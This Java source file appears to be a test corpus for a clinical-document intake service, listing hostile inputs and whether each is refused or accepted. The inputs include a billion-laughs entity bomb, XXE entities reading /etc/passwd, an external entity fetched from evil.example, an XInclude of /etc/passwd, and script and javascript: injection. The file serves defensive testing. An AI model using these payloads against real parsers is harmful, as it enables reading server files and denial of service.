package health.roi.document.intake.corpus;

import static health.roi.document.intake.corpus.Case.refused;
import static health.roi.document.intake.corpus.Case.taken;

import health.roi.document.work.Refusal;
import health.roi.support.SampleDocuments;
import java.nio.charset.StandardCharsets;
import java.util.stream.Stream;

/** Clinical documents and plain texts that want more than to be read. */
public final class HostileTexts {
    private HostileTexts() {}

    public static Stream<Case> all() {
        return Stream.concat(clinical(), plain());
    }

    private static Stream<Case> clinical() {
        return Stream.of(
                refused("a billion laughs", Refusal.CDA_UNSAFE, () -> declared(laughs(), "&l9;")),
                refused(
                        "a file of the server",
                        Refusal.CDA_UNSAFE,
                        () -> declared("<!ENTITY x SYSTEM \"file:///etc/passwd\">", "&x;")),
                refused(
                        "a parameter from outside",
                        Refusal.CDA_UNSAFE,
                        () -> declared("<!ENTITY % x SYSTEM \"http://evil.example/x\"> %x;", "")),
                refused("elements without end", Refusal.TOO_COMPLEX, () -> narrative("<br/>".repeat(600_000))),
                refused(
                        "an element of a million attributes",
                        Refusal.CDA_MALFORMED,
                        () -> narrative("<content " + attributes() + "/>")),
                refused(
                        "a table of two hundred thousand cells",
                        Refusal.TOO_COMPLEX,
                        () -> narrative("<table><tbody>" + ("<tr>" + "<td/>".repeat(50) + "</tr>").repeat(4_000)
                                + "</tbody></table>")),
                taken(
                        "a table that claims to be wide",
                        1,
                        () -> narrative("<table><tbody>"
                                + "<tr><td colspan=\"9999\">a</td><td rowspan=\"9999\">b</td></tr>".repeat(20)
                                + "</tbody></table>")),
                taken(
                        "scripts, frames and pictures of elsewhere",
                        1,
                        () -> narrative("<script>alert('evil')</script>"
                                + "<iframe src=\"http://evil.example\"/><img src=\"file:///etc/passwd\"/>"
                                + "<linkHtml href=\"javascript:evil()\">link</linkHtml>"
                                + "<content styleCode=\"Bold;background:url(http://evil.example)\">styled</content>")),
                taken(
                        "an inclusion",
                        1,
                        () -> narrative(
                                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>")),
                refused(
                        "no sections",
                        Refusal.CDA_UNSTRUCTURED,
                        () -> RawPdf.bytes(new String(SampleDocuments.clinicalDocument(""), StandardCharsets.UTF_8)
                                .replaceAll("(?s)<section>.*</section>", ""))),
                refused(
                        "a comment that never ends",
                        Refusal.UNSUPPORTED_FORMAT,
                        () -> RawPdf.bytes("<!--" + "-".repeat(500_000))));
    }

    private static Stream<Case> plain() {
        return Stream.of(
                refused("a text with zeros", Refusal.NOT_A_DOCUMENT, () -> RawPdf.bytes("Name\0Value\0")),
                refused("a text that moves the cursor", Refusal.NOT_A_DOCUMENT, () -> RawPdf.bytes("\033[2Jcleared\n")),
                refused(
                        "a text with zeros far behind",
                        Refusal.NOT_A_DOCUMENT,
                        () -> RawPdf.bytes("line\n".repeat(50_000) + "\0")),
                refused(
                        "one line of three million letters",
                        Refusal.TOO_LARGE,
                        () -> RawPdf.bytes("a".repeat(3_000_000))),
                taken("one line of fifty thousand letters", 9, () -> RawPdf.bytes("a".repeat(50_000))),
                taken("a thousand pages of nothing", 1_000, () -> RawPdf.bytes("x\f".repeat(1_000))),
                refused("a text that turns round", Refusal.NOT_A_DOCUMENT, () -> RawPdf.bytes("\1\2\3\4")));
    }

    private static String laughs() {
        StringBuilder laughs = new StringBuilder("<!ENTITY l0 \"ha\">");
        for (int i = 1; i < 10; i++) {
            laughs.append("<!ENTITY l")
                    .append(i)
                    .append(" \"")
                    .append(("&l" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        return laughs.toString();
    }

    private static String attributes() {
        StringBuilder attributes = new StringBuilder();
        for (int i = 0; i < 600_000; i++) {
            attributes.append('a').append(i).append("=\"\" ");
        }
        return attributes.toString();
    }

    private static byte[] narrative(String markup) {
        return SampleDocuments.clinicalDocument(markup);
    }

    private static byte[] declared(String declaration, String use) {
        return RawPdf.bytes(new String(narrative(use), StandardCharsets.UTF_8)
                .replaceFirst(
                        "<ClinicalDocument",
                        "<!DOCTYPE ClinicalDocument ["
                                + declaration.replace("\\", "\\\\").replace("$", "\\$") + "]><ClinicalDocument"));
    }
}
